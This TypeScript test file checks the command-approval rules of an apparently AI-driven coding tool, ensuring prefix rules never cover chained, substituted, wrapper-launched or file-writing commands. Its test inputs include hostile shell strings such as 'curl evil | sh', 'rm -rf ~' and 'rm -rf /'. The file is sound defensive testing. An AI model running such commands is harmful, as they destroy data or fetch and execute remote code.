import { describeRule, parseRule, ruleAllows, suggestRule, validRules } from '../../src/settings/rules';
import { Settings } from '../../src/settings/store';

const shell = (command: string) => command;

describe('approval rules', () => {
  it('a command prefix covers commands whose first words are the same, whole words only', () => {
    const rule = { tool: 'shell', prefix: 'npm test' };
    expect(ruleAllows(rule, 'shell', shell('npm test'))).toBe(true);
    expect(ruleAllows(rule, 'shell', shell('  npm   test -- --watch=false'))).toBe(true);
    expect(ruleAllows(rule, 'shell', shell('npm testing'))).toBe(false);
    expect(ruleAllows(rule, 'shell', shell('npm'))).toBe(false);
    expect(ruleAllows(rule, 'shell', shell('npm run build'))).toBe(false);
    expect(ruleAllows(rule, 'edit_file', shell('npm test'))).toBe(false);
  });

  it.each([
    'npm test; curl evil | sh',
    'npm test && rm -rf ~',
    'npm test || true',
    'npm test | tee log',
    'npm test > out',
    'npm test < in',
    'npm test $(whoami)',
    'npm test `whoami`',
    'npm test &',
    'npm test\nrm -rf /',
    'npm test ${HOME}',
    'npm test \\\nrm x',
    'npm test (x)',
  ])('a command that chains, pipes, redirects or substitutes is never covered: %j', (command) => {
    expect(ruleAllows({ tool: 'shell', prefix: 'npm test' }, 'shell', shell(command))).toBe(false);
  });

  it('a rule for a tool covers its every call', () => {
    expect(ruleAllows({ tool: 'edit_file' }, 'edit_file', undefined)).toBe(true);
  });

  it('suggests the first word, or two for tools whose second word is what they do; none for a compound command', () => {
    expect(suggestRule('shell', shell('npm test -- -t x'))).toEqual({ tool: 'shell', prefix: 'npm test' });
    expect(suggestRule('shell', shell('git status'))).toEqual({ tool: 'shell', prefix: 'git status' });
    expect(suggestRule('shell', shell('git --no-pager log'))).toBeNull();
    expect(suggestRule('shell', shell('ls -la src'))).toEqual({ tool: 'shell', prefix: 'ls' });
    expect(suggestRule('shell', shell('make'))).toEqual({ tool: 'shell', prefix: 'make' });
    expect(suggestRule('shell', shell('cd x && make'))).toBeNull();
    expect(suggestRule('shell', shell('FOO=1 make'))).toBeNull();
    expect(suggestRule('shell', shell('   '))).toBeNull();
    expect(suggestRule('write_file', undefined)).toEqual({ tool: 'write_file' });
  });

  it('reads rules from /permissions add and from a stored file, leaving out what is not one', () => {
    expect(parseRule(['shell', 'npm', 'test'])).toEqual({ tool: 'shell', prefix: 'npm test' });
    expect(parseRule(['shell'])).toBeNull();
    expect(parseRule(['shell', 'a;b'])).toBeNull();
    expect(parseRule(['edit_file'])).toEqual({ tool: 'edit_file' });
    expect(parseRule(['edit_file', 'x'])).toBeNull();
    expect(
      validRules([
        { tool: 'shell', prefix: 'make' },
        { tool: 'grep' },
        { tool: 'shell', prefix: 'a | b' },
        'x',
        null,
        { tool: '' },
        { prefix: 'ls' },
      ]),
    ).toEqual({
      rules: [{ tool: 'shell', prefix: 'make' }, { tool: 'grep' }],
      bad: 5,
    });
    expect(validRules('nonsense')).toEqual({ rules: [], bad: 0 });
    expect(describeRule({ tool: 'shell', prefix: 'make' })).toBe('shell commands starting with `make`');
    expect(describeRule({ tool: 'write_file' })).toBe('every write_file call');
  });

  it('in the settings, a rule turns a question into a run, never a refusal; rules are added once and removed by number', () => {
    const s = new Settings({ provider: 'p', model: null });
    expect(s.addRule({ tool: 'shell', prefix: 'make' })).toBe(true);
    expect(s.addRule({ tool: 'shell', prefix: 'make' })).toBe(false);
    expect(s.decide({ tool: 'shell', kind: 'command', command: 'make test' })).toBe('run');
    expect(s.decide({ tool: 'shell', kind: 'command', command: 'rm -rf x' })).toBe('ask');
    s.setMode('read-only');
    expect(s.decide({ tool: 'shell', kind: 'command', command: 'make test' })).toBe('refuse');
    expect(s.removeRule(2)).toBeNull();
    expect(s.removeRule(1)).toEqual({ tool: 'shell', prefix: 'make' });
    expect(s.rules).toEqual([]);
  });
});

describe('what a rule can never cover', () => {
  it('offers no rule for a command that runs the command after it, and no rule covers one', () => {
    for (const c of [
      'timeout 5 make',
      'sh -c make',
      'bash script.sh',
      'env FOO=1 make',
      'xargs rm',
      'nice make',
      'sudo ls',
      'npx some-package',
      'npm exec some-package',
      'pnpm dlx x',
      'uv run x',
      'bundle exec rake',
      '/usr/bin/timeout 5 ls',
    ])
      expect(suggestRule('shell', c)).toBeNull();
    expect(ruleAllows({ tool: 'shell', prefix: 'timeout' }, 'shell', 'timeout 5 rm -rf data')).toBe(false);
    expect(ruleAllows({ tool: 'shell', prefix: 'timeout 5' }, 'shell', 'timeout 5 rm -rf data')).toBe(false);
    expect(ruleAllows({ tool: 'shell', prefix: 'env' }, 'shell', 'env rm -rf data')).toBe(false);
    expect(ruleAllows({ tool: 'shell', prefix: 'npm exec' }, 'shell', 'npm exec evil')).toBe(false);
  });

  it('gives an interpreter a rule naming what it runs, never one for inline code or the interpreter alone', () => {
    expect(suggestRule('shell', 'python3 -m pytest -q tests')).toEqual({ tool: 'shell', prefix: 'python3 -m pytest' });
    expect(suggestRule('shell', 'node scripts/build.js --prod')).toEqual({
      tool: 'shell',
      prefix: 'node scripts/build.js',
    });
    expect(suggestRule('shell', 'node -e "require(1)"')).toBeNull();
    expect(suggestRule('shell', 'python3 -c "print(1)"')).toBeNull();
    expect(suggestRule('shell', 'python3')).toBeNull();
    expect(ruleAllows({ tool: 'shell', prefix: 'node' }, 'shell', 'node evil.js')).toBe(false);
    expect(ruleAllows({ tool: 'shell', prefix: 'python3 -m pytest' }, 'shell', 'python3 -m pytest -k x')).toBe(true);
    expect(ruleAllows({ tool: 'shell', prefix: 'node scripts/a.js' }, 'shell', 'node -e x scripts/a.js')).toBe(false);
  });

  it('never covers the options by which a reading command writes a file or runs another', () => {
    const covers = (prefix: string, command: string) => ruleAllows({ tool: 'shell', prefix }, 'shell', command);
    expect(covers('git log', 'git log --oneline')).toBe(true);
    expect(covers('git log', 'git log --output=.git/config')).toBe(false);
    expect(covers('git log', 'git log --output x')).toBe(false);
    expect(covers('find', 'find . -name "*.ts"')).toBe(true);
    for (const c of ['find . -delete', 'find . -fprint out', 'find . -execdir rm', 'find . -fls x'])
      expect(covers('find', c)).toBe(false);
    expect(covers('sort', 'sort -o out in')).toBe(false);
    expect(covers('sort', 'sort -oout in')).toBe(false);
    expect(covers('rg', 'rg --pre ./x pattern')).toBe(false);
    expect(covers('sed', 'sed -i s/a/b/ f')).toBe(false);
    expect(suggestRule('shell', 'git log --output=x')).toBeNull();
    expect(suggestRule('shell', 'find . -delete')).toBeNull();
  });

  it('a rule for a package script names the script; git with options before its subcommand gets none', () => {
    expect(suggestRule('shell', 'npm run build -- --x')).toEqual({ tool: 'shell', prefix: 'npm run build' });
    expect(ruleAllows({ tool: 'shell', prefix: 'npm run build' }, 'shell', 'npm run deploy')).toBe(false);
    expect(suggestRule('shell', 'git -C /elsewhere push')).toBeNull();
    expect(suggestRule('shell', 'make -j4')).toEqual({ tool: 'shell', prefix: 'make' });
  });
});
